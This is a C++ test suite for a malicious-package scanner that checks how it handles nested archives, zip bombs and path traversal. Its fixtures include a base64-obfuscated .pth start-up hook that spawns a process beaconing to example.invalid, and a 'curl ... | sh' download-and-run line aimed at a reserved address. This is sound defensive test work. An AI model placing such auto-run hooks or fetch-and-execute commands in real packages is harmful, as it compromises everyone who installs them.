// Archives inside archives, end to end (docs/limits.md, "Archives inside
// archives"): every case builds real nested archives in its sandbox, runs the
// real canary on them, and checks the findings on OUTER!/INNER paths, the
// depth limit, the limits shared across levels, peak RSS and that nothing
// was written. Payloads are inert and address example.invalid only.
#include <catch2/catch.hpp>

#include "hostile_support.hpp"
#include "support/artifact_builder.hpp"

namespace canary::test {
namespace {

namespace fs = std::filesystem;
using json = nlohmann::json;

// A LiteLLM-1.82.8-shaped start-up hook: spawns `python -S -c "exec(base64...)"`
// whose blob is an HTTPS request to example.invalid.
const std::string kSpawningPth =
    "import subprocess, sys; subprocess.Popen([sys.executable, \"-S\", \"-c\", \"import base64; "
    "exec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnRyeToKICAgIHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vZXhh"
    "bXBsZS5pbnZhbGlkL2JlYWNvbiIsIHRpbWVvdXQ9MikKZXhjZXB0IEV4Y2VwdGlvbjoKICAgIHBhc3MK'))\"])\n";

const std::string kShellDownload = "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n";

// The bytes of a wheel holding `files` (a RECORD is added).
std::string wheel_bytes(const Sandbox& box, const std::string& name, std::vector<FileSpec> files) {
  const fs::path p = box.input(name);
  write_wheel(p, std::move(files));
  std::string bytes = read_file(p);
  fs::remove(p);
  return bytes;
}

std::string zip_bytes(const Sandbox& box, const std::vector<FileSpec>& files) {
  const fs::path p = box.input("tmp.zip");
  write_zip(p, files);
  std::string bytes = read_file(p);
  fs::remove(p);
  return bytes;
}

// An sdist (NAME-1.0/...) whose vendor/ holds `vendored` under `vendored_name`.
fs::path sdist_vendoring(const Sandbox& box, const std::string& name, const std::string& vendored_name,
                         const std::string& vendored, std::vector<FileSpec> extra = {}) {
  const fs::path p = box.input(name + "-1.0.tar.gz");
  std::vector<FileSpec> files = {
      {name + "-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: 1.0\n"},
      {name + "-1.0/setup.py", "from setuptools import setup\nsetup(name='" + name + "', version='1.0')\n"},
      {name + "-1.0/vendor/" + vendored_name, vendored},
  };
  for (FileSpec& f : extra) files.push_back(std::move(f));
  write_tar_gz(p, files);
  return p;
}

const json* finding_on(const json& report, const std::string& rule, const std::string& file) {
  for (const auto& f : report["findings"])
    if (f["rule"] == rule && f["file"] == file) return &f;
  return nullptr;
}

bool any_file_contains(const json& report, const std::string& text) {
  for (const auto& f : report["findings"])
    if (f["file"].get<std::string>().find(text) != std::string::npos) return true;
  return false;
}

int errors_containing(const json& report, const std::string& text) {
  int n = 0;
  for (const auto& e : report["errors"]) n += e.get<std::string>().find(text) != std::string::npos;
  return n;
}

// Level k (1 = innermost) of a nest of zips: a 100 MB zero bomb, and the
// level below stored as next.zip.
std::string bomb_nest(int levels) {
  std::string inner;
  for (int k = 1; k <= levels; ++k) {
    std::vector<RawZipEntry> entries = {raw_deflated_zeros("bomb" + std::to_string(k) + ".bin", 100ull << 20)};
    if (!inner.empty()) entries.push_back(raw_stored("next.zip", inner));
    TempDir dir;
    write_raw_zip(dir.path() / "level.zip", entries);
    inner = read_file(dir.path() / "level.zip");
  }
  return inner;
}

}  // namespace

TEST_CASE("nested: a wheel vendored in an sdist is opened and its .pth judged as the wheel's", "[hostile]") {
  Sandbox box;
  const std::string whl = wheel_bytes(box, "evil-1.0-py3-none-any.whl",
                                      {{"evil/__init__.py", "VERSION = '1.0'\n"},
                                       {"evil_init.pth", kSpawningPth},
                                       {"evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"},
                                       {"evil-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"}});
  const fs::path sdist = sdist_vendoring(box, "carrier", "evil-1.0-py3-none-any.whl", whl);
  json report;
  MeasuredRun r = scan_case(box, "wheel with a spawning .pth inside an sdist", sdist, report);
  CHECK(r.exit_code == 0);
  const std::string pth = "carrier-1.0/vendor/evil-1.0-py3-none-any.whl!/evil_init.pth";
  CHECK(finding_on(report, "canary:PTH_SPAWNS_PROCESS", pth));
  CHECK(finding_on(report, "canary:PAYLOAD_ARCHIVE_INSIDE", "carrier-1.0/vendor/evil-1.0-py3-none-any.whl"));
  // The .pth is at the top of the inner wheel, where site-packages takes it:
  // it is not judged as a .pth buried in an sdist's source tree.
  CHECK_FALSE(finding_on(report, "canary:PTH_OUTSIDE_SITE_ROOT", pth));
  CHECK(report["verdict"] == "MALICIOUS");
  CHECK(report["files_scanned"] == 3 + 5);  // PKG-INFO, setup.py, the wheel; its 4 files and RECORD
  CHECK(report["errors"].empty());

  // The same as a gate: --fail-on exits 1, the table names the inner path,
  // and SARIF carries it as the location's URI.
  MeasuredRun gate = box.run({"scan", sdist.string(), "--fail-on", "malicious", "--no-cache"});
  CHECK(gate.exit_code == 1);
  CHECK(gate.out.find("evil-1.0-py3-none-any.whl!/evil_init.pth") != std::string::npos);
  MeasuredRun sarif = box.run({"scan", sdist.string(), "--format", "sarif", "--fail-on", "none", "--no-cache"});
  CHECK(sarif.exit_code == 0);
  CHECK(sarif.out.find("evil-1.0-py3-none-any.whl!/evil_init.pth") != std::string::npos);

  // --max-archive-depth 1 opens nothing: the wheel is only bytes again.
  json flat;
  scan_case(box, "wheel inside an sdist, --max-archive-depth 1", sdist, flat, {"--max-archive-depth", "1"});
  CHECK_FALSE(any_file_contains(flat, "!/"));
  CHECK(finding_on(flat, "canary:ARCHIVE_NESTING_TOO_DEEP", "carrier-1.0/vendor/evil-1.0-py3-none-any.whl"));
}

TEST_CASE("nested: a zip in a wheel in a tar.gz is level 3: not opened by default, scanned when raised",
          "[hostile]") {
  Sandbox box;
  const std::string payload = zip_bytes(box, {{"run.py", kShellDownload}});
  const std::string whl = wheel_bytes(box, "mid-1.0-py3-none-any.whl",
                                      {{"mid/__init__.py", "X = 1\n"}, {"mid/data/payload.zip", payload}});
  const fs::path sdist = sdist_vendoring(box, "outer", "mid-1.0-py3-none-any.whl", whl);
  const std::string inner_zip = "outer-1.0/vendor/mid-1.0-py3-none-any.whl!/mid/data/payload.zip";

  json report;
  MeasuredRun r = scan_case(box, "zip at level 3, default depth", sdist, report);
  CHECK(r.exit_code == 0);
  CHECK(finding_on(report, "canary:ARCHIVE_NESTING_TOO_DEEP", inner_zip));
  CHECK_FALSE(any_file_contains(report, "payload.zip!/"));
  CHECK(errors_containing(report, inner_zip + ": archive not opened: it would be archive level 3") == 1);
  CHECK(errors_containing(report, "raise --max-archive-depth") == 1);

  json deep;
  MeasuredRun rd = scan_case(box, "zip at level 3, --max-archive-depth 3", sdist, deep, {"--max-archive-depth", "3"});
  CHECK(rd.exit_code == 0);
  CHECK(any_file_contains(deep, inner_zip + "!/run.py"));
  CHECK_FALSE(has_finding(deep, "canary:ARCHIVE_NESTING_TOO_DEEP"));
  CHECK(errors_containing(deep, "archive not opened") == 0);

  // The config file sets it like the other limits.
  const fs::path config = box.input("canary.toml");
  write_file(config, "[limits]\nmax-archive-depth = 3\n");
  MeasuredRun rc = box.run({"scan", "--format", "jsonl", "--fail-on", "none", "--no-cache", "-q", "--config",
                            config.string(), sdist.string()});
  CHECK(rc.exit_code == 0);
  CHECK(rc.out.find("payload.zip!/run.py") != std::string::npos);
}

TEST_CASE("nested: ten levels of zips, each holding a bomb, are bounded by the depth and total-bytes limits",
          "[hostile]") {
  Sandbox box;
  const fs::path nest = box.input("nest.zip");
  write_file(nest, bomb_nest(10));
  REQUIRE(fs::file_size(nest) < 4u << 20);

  json report;
  MeasuredRun r = scan_case(box, "10 nested zips of 100 MB bombs, default depth", nest, report);
  CHECK(r.exit_code == 0);
  // Levels 1 and 2 are read, each bomb stopped after its first megabyte; the
  // zip at level 3 is scanned as bytes only.
  CHECK(finding_on(report, "canary:ARCHIVE_DECOMPRESSION_BOMB", "bomb10.bin"));
  CHECK(finding_on(report, "canary:ARCHIVE_DECOMPRESSION_BOMB", "next.zip!/bomb9.bin"));
  CHECK(finding_on(report, "canary:ARCHIVE_NESTING_TOO_DEEP", "next.zip!/next.zip"));
  CHECK(report["files_scanned"] == 4);
  CHECK(report["bytes_scanned"].get<uint64_t>() < (16u << 20));

  // Every level opened: the inflated bytes of all levels count against one
  // --max-total-bytes, so reading stops part way down (each level alone is
  // far below it), said once.
  json deep;
  MeasuredRun rd = scan_case(box, "10 nested zips of bombs, depth 16, 6M total", nest, deep,
                             {"--max-archive-depth", "16", "--max-total-bytes", "6M"});
  CHECK(rd.exit_code == 0);
  CHECK(errors_containing(deep, "(limit --max-total-bytes)") == 1);
  CHECK(finding_on(deep, "canary:ARCHIVE_DECOMPRESSION_BOMB", "next.zip!/next.zip!/bomb8.bin"));
  CHECK_FALSE(any_file_contains(deep, "bomb1.bin"));
  CHECK(deep["bytes_scanned"].get<uint64_t>() <= (6u << 20));

  // With room for all of it, all ten bombs are found, each stopped.
  json all;
  scan_case(box, "10 nested zips of bombs, depth 16", nest, all, {"--max-archive-depth", "16"});
  int bombs = 0;
  for (const auto& f : all["findings"]) bombs += f["rule"] == "canary:ARCHIVE_DECOMPRESSION_BOMB";
  CHECK(bombs == 10);
  CHECK(all["files_scanned"] == 19);
}

TEST_CASE("nested: the compression ratio compounds across levels", "[hostile]") {
  Sandbox box;
  // 40 MB of one repeated line deflates ~250:1 inside the inner zip, and the
  // inner zip's own deflate stream compresses again ~10:1 in the outer one:
  // each level alone is under --max-ratio 1000, their product is not.
  std::string line = "data = 'abcdefghijklmnopqrstuvwxyz0123456789'\n";
  const fs::path inner = box.input("inner.zip");
  write_raw_zip(inner, {raw_deflated_repeated("big.py", line, 40ull << 20)});
  const std::string inner_bytes = read_file(inner);
  fs::remove(inner);
  const fs::path outer = box.input("outer.zip");
  write_raw_zip(outer, {raw_deflated("inner.zip", inner_bytes)});
  json report;
  scan_case(box, "compounded ratio", outer, report);
  CHECK_FALSE(finding_on(report, "canary:ARCHIVE_DECOMPRESSION_BOMB", "inner.zip"));
  CHECK(finding_on(report, "canary:ARCHIVE_DECOMPRESSION_BOMB", "inner.zip!/big.py"));
}

TEST_CASE("nested: a truncated or corrupt inner archive is one error line, the rest is scanned", "[hostile]") {
  Sandbox box;
  std::vector<FileSpec> files;
  for (int i = 0; i < 10; ++i) files.push_back({"lib/m" + std::to_string(i) + ".py", std::string(4000, 'a' + i)});
  const std::string whl = wheel_bytes(box, "lib-1.0-py3-none-any.whl", files);
  const fs::path tgz = box.input("inner-1.0.tar.gz");
  write_tar_gz(tgz, files);
  const std::string tar_bytes = read_file(tgz);
  fs::remove(tgz);
  const fs::path sdist = sdist_vendoring(box, "broken", "cut.whl", whl.substr(0, whl.size() / 2),
                                         {{"broken-1.0/vendor/cut.tar.gz", tar_bytes.substr(0, tar_bytes.size() / 2)},
                                          {"broken-1.0/zz_after.py", kShellDownload}});
  json report;
  MeasuredRun r = scan_case(box, "truncated inner wheel and tarball", sdist, report);
  CHECK(r.exit_code == 0);
  CHECK(report["unreadable"] == false);
  CHECK(errors_containing(report, "cannot read broken-1.0/vendor/cut.whl as a zip archive") == 1);
  CHECK(errors_containing(report, "broken-1.0/vendor/cut.tar.gz") >= 1);
  CHECK(any_file_contains(report, "broken-1.0/zz_after.py"));  // the entry after both was scanned

  // An inner wheel cut by --max-file-size is not opened, and says why.
  json cut;
  scan_case(box, "inner wheel cut by --max-file-size", sdist_vendoring(box, "big", "lib-1.0-py3-none-any.whl", whl),
            cut, {"--max-file-size", "1K"});
  CHECK(errors_containing(cut, "big-1.0/vendor/lib-1.0-py3-none-any.whl: archive not opened: only its first 1024 bytes") ==
        1);
  CHECK(finding_on(cut, "canary:ARCHIVE_ENTRY_TRUNCATED", "big-1.0/vendor/lib-1.0-py3-none-any.whl"));
  CHECK_FALSE(any_file_contains(cut, "!/"));
}

TEST_CASE("nested: inner names that climb out get the same traversal finding as outer ones", "[hostile]") {
  Sandbox box;
  const fs::path z = box.input("names.zip");
  write_raw_zip(z, {raw_stored("../../evil.pth", "import os\n"), raw_stored("/abs/evil.py", "a = 1\n"),
                    raw_stored("ok/fine.py", "b = 2\n")});
  const std::string zbytes = read_file(z);
  fs::remove(z);
  const fs::path sdist = sdist_vendoring(box, "climb", "names.zip", zbytes);
  json report;
  scan_case(box, "unsafe names inside an inner zip", sdist, report);
  CHECK(finding_on(report, "canary:ARCHIVE_UNSAFE_PATH", "climb-1.0/vendor/names.zip!/../../evil.pth"));
  CHECK(finding_on(report, "canary:ARCHIVE_UNSAFE_PATH", "climb-1.0/vendor/names.zip!//abs/evil.py"));
  CHECK_FALSE(finding_on(report, "canary:ARCHIVE_UNSAFE_PATH", "climb-1.0/vendor/names.zip!/ok/fine.py"));
  CHECK_FALSE(finding_on(report, "canary:ARCHIVE_UNSAFE_PATH", "climb-1.0/vendor/names.zip"));
}

TEST_CASE("nested: canary diff lists inner entries with their !/ path", "[hostile]") {
  Sandbox box;
  const std::vector<FileSpec> base = {{"evil/__init__.py", "VERSION = '1.0'\n"}};
  std::vector<FileSpec> with_pth = base;
  with_pth.push_back({"evil_init.pth", kSpawningPth});
  const fs::path old_sdist = sdist_vendoring(box, "carrier", "evil-1.0-py3-none-any.whl",
                                             wheel_bytes(box, "evil-1.0-py3-none-any.whl", base));
  const fs::path renamed = box.input("carrier-1.0-old.tar.gz");
  fs::rename(old_sdist, renamed);
  const fs::path new_sdist = sdist_vendoring(box, "carrier", "evil-1.0-py3-none-any.whl",
                                             wheel_bytes(box, "evil-1.0-py3-none-any.whl", with_pth));
  MeasuredRun r = box.run({"diff", "-q", "--no-cache", renamed.string(), new_sdist.string()});
  report_and_check_rss("diff of sdists vendoring a wheel", r);
  CHECK(r.exit_code == 1);  // the new .pth is MALICIOUS
  CHECK(r.out.find("+ vendor/evil-1.0-py3-none-any.whl!/evil_init.pth") != std::string::npos);
  CHECK(r.out.find("new .pth file          vendor/evil-1.0-py3-none-any.whl!/evil_init.pth") != std::string::npos);
  CHECK(r.out.find("canary:PTH_SPAWNS_PROCESS") != std::string::npos);
}

}  // namespace canary::test
